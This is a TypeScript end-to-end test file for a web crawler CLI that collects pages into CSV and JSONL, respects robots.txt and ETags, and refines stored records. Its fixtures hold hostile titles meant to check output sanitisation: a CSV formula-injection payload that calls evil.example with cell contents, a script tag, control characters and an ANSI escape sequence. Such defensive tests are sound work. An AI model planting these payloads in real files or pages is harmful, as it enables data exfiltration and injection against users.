import { createHash } from "node:crypto";
import { readFile } from "node:fs/promises";
import { join } from "node:path";
import { afterEach, beforeAll, expect, it } from "vitest";
import { look, readArchive, tally } from "../end-to-end/stored.ts";
import { type Answer, openSite, page, type SmallSite } from "../sites/small-site.ts";
import { freshData, freshFolder } from "./data-folder.ts";
import { type Ended, naru } from "./naru.ts";

let data = "";
let folder = "";
/** Tries four times with growing pauses, so it begins before all else. */
let nobody: Promise<Ended>;
const sites: SmallSite[] = [];
beforeAll(async () => {
  data = await freshData();
  folder = await freshFolder();
  nobody = naru(["collect", "http://127.0.0.1:1/", "--data", await freshData()]);
});
afterEach(async () => {
  for (const site of sites.splice(0)) await site.close();
});

async function site(pages: Record<string, Answer | string>): Promise<SmallSite> {
  const opened = await openSite(pages);
  sites.push(opened);
  return opened;
}

/** Answers 304 to those who have the page already. */
function withEtag(html: string): Answer {
  const etag = `"${createHash("sha1").update(html).digest("hex")}"`;
  return (request, response) => {
    if (request.headers["if-none-match"] === etag) response.writeHead(304, { etag }).end();
    else response.writeHead(200, { "content-type": "text/html; charset=utf-8", etag }).end(html);
  };
}

const hostile = {
  formula: '=HYPERLINK("http://evil.example/?"&A1,"눌러요")',
  markup: "<b>굵은</b> <script>alert(1)</script> 제목",
  quotes: '쉼표, "따옴표"\u0007와 제어 문자',
};
const titled = (seed: string, title: string, links: string[] = []) =>
  page(seed, links).replace(/<title>.*?<\/title>|<h1>.*?<\/h1>/g, (tag) => {
    const [name = ""] = /\w+/.exec(tag) ?? [];
    const escaped = title.replaceAll("&", "&amp;").replaceAll("<", "&lt;");
    return `<${name}>${escaped}</${name}>`;
  });

/** Cells of a CSV file; quotes may hold line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [[]];
  for (const [, quoted, plain, end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/g)) {
    rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain ?? "");
    if (end === "\r\n") rows.push([]);
    if (end === "") break;
  }
  return rows.filter((row) => row.length > 1);
}

const collect = (url: string, ...more: string[]): Promise<Ended> =>
  naru(["collect", url, "--delay", "0", "--data", data, ...more]);

it("collects a site into a table that spreadsheets read, visits it again politely, and refines it twice", async () => {
  const town = await site({
    "/robots.txt": "User-agent: *\nDisallow: /private/\n",
    "/": withEtag(page("나루", ["/formula", "/markup", "/quotes", "/private/diary", "/"])),
    "/formula": withEtag(titled("formula", hostile.formula)),
    "/markup": withEtag(titled("markup", hostile.markup)),
    "/quotes": withEtag(titled("quotes", hostile.quotes)),
  });
  const csv = join(folder, "new", "folder", "town.csv");
  // A comma left from a list of addresses is no part of one.
  const first = await collect(`${town.url("/")},`, "--out", csv);
  expect(first).toMatchObject({ code: 0, err: expect.stringContaining(`Wrote 4 documents to ${csv}.`) });
  expect(first.out).toMatch(/Collection 1 is done after [\d.]+ s: 4 addresses answered.*4 documents\.\n\d+ left out/);
  expect(first.out).toMatch(/1 +robots_denied +http:\S+\/private\/diary: Disallow: \/private\//);
  expect(town.count("/private/diary")).toBe(0);

  const bytes = await readFile(csv);
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const [head = [], ...rows] = parseCsv(bytes.subarray(3).toString());
  const cell = (row: string[], name: string) => row[head.indexOf(name)] ?? "";
  const byPath = new Map(rows.map((row) => [new URL(cell(row, "url")).pathname, row]));
  expect([...byPath.keys()].sort()).toEqual(["/", "/formula", "/markup", "/quotes"]);
  for (const row of rows) {
    expect(row).toHaveLength(head.length);
    expect(cell(row, "text")).toContain("사람들은 3일 동안 배를 기다리며 서로의 안부를 물었다.");
    expect(cell(row, "language")).toBe("ko");
    expect(["positive", "negative", "neutral"]).toContain(cell(row, "sentiment"));
    for (const value of row) {
      // Nothing that a spreadsheet would run, nothing that a terminal would obey.
      expect(value).not.toMatch(/^[=+@\t\r]|^-\D/);
      expect(value).not.toMatch(/(?!\n)\p{Cc}/u);
    }
  }
  expect(cell(byPath.get("/formula") ?? [], "title")).toMatch(/^'=HYPERLINK/);
  expect(cell(byPath.get("/quotes") ?? [], "title")).toContain('쉼표, "따옴표"');

  const asked = town.log.length;
  const jsonl = join(folder, "town.jsonl");
  const second = await collect(town.url("/"), "--out", jsonl, "--json");
  expect(second).toMatchObject({ code: 0, err: "" });
  expect(JSON.parse(second.out)).toMatchObject({ id: 2, status: "done", progress: { done: 4, documents: 0 } });
  const visits = town.log.slice(asked).filter(({ path }) => path !== "/robots.txt" && path !== "/sitemap.xml");
  expect(visits).toHaveLength(4);
  for (const { headers } of visits) expect(headers["if-none-match"]).toMatch(/^"[0-9a-f]{40}"$/);
  const again = (await readFile(jsonl, "utf8")).trimEnd().split("\n");
  expect(again.map((line) => JSON.parse(line).url).sort()).toEqual(rows.map((row) => cell(row, "url")).sort());
  const records = await readArchive(data);
  const revisits = records.filter(({ type, url }) => type === "revisit" && !url.endsWith("/robots.txt"));
  expect(tally(revisits.map(({ url }) => new URL(url).pathname))).toEqual({
    "/": 1,
    "/formula": 1,
    "/markup": 1,
    "/quotes": 1,
  });
  for (const { status, profile } of revisits)
    expect({ status, profile }).toEqual({ status: 304, profile: expect.stringContaining("server-not-modified") });

  const refined = await naru(["refine", "--data", data]);
  expect(refined).toMatchObject({ code: 0, out: expect.stringMatching(/: 4 unchanged, 0 changed, 0 new, 0 failed/) });
  // As if an older parser had read one of them otherwise.
  await look(data, (db) =>
    db.updateTable("documents").set({ title: "\u001b[2J옛 제목" }).where("url", "=", town.url("/markup")).execute(),
  );
  const told = await naru(["refine", "--dry-run", "--diff", "--data", data]);
  expect(told.out).toMatch(/3 unchanged, 1 would change, .*\nhttp:\S+\/markup\n +title: ".\[2J옛 제목" → ".*제목"/);
  expect(told.out).not.toContain("\u001b");
  const mended = await naru(["refine", "--json", "--data", data]);
  expect(JSON.parse(mended.out)).toMatchObject({ unchanged: 3, changed: 1, added: 0, failed: 0, dryRun: false });
  const last = await naru(["refine", "--json", "--data", data]);
  expect(JSON.parse(last.out)).toMatchObject({ unchanged: 4, changed: 0, added: 0 });
});

it("ends with 3 when some addresses failed, and names them", async () => {
  const broken = await site({
    "/": page("broken", ["/good", "/gone", "/missing", "/loop"]),
    "/good": page("good"),
    "/gone": (_request, response) => response.writeHead(410).end(),
    "/loop": (_request, response) => response.writeHead(302, { location: "/loop" }).end(),
  });
  const ended = await collect(broken.url("/"));
  expect(ended.code).toBe(3);
  expect(ended.out).toMatch(/3 failed/);
  for (const [reason, path] of [
    ["deleted", "/gone"],
    ["not_found", "/missing"],
    ["redirect_loop", "/loop"],
  ])
    expect(ended.out).toMatch(new RegExp(`\\d +${reason} +http://\\S+${path}: `));
});

it("ends with 4 when robots.txt refuses, and with 1 when nobody answers", async () => {
  const closed = await site({ "/robots.txt": "User-agent: *\nDisallow: /\n", "/": page("closed") });
  const refused = await collect(closed.url("/"));
  expect(refused.code).toBe(4);
  expect(refused.out).toContain("[robots_denied]");
  expect(closed.count("/")).toBe(0);
  const silent = await nobody;
  expect(silent.code).toBe(1);
  expect(silent.out).toMatch(
    /Collection \d+ failed[\s\S]*ECONNREFUSED.*4 attempts.*\[host_unreachable\]\n.*: 4 requests, no answer\.\nLog: \S+\n$/,
  );
});
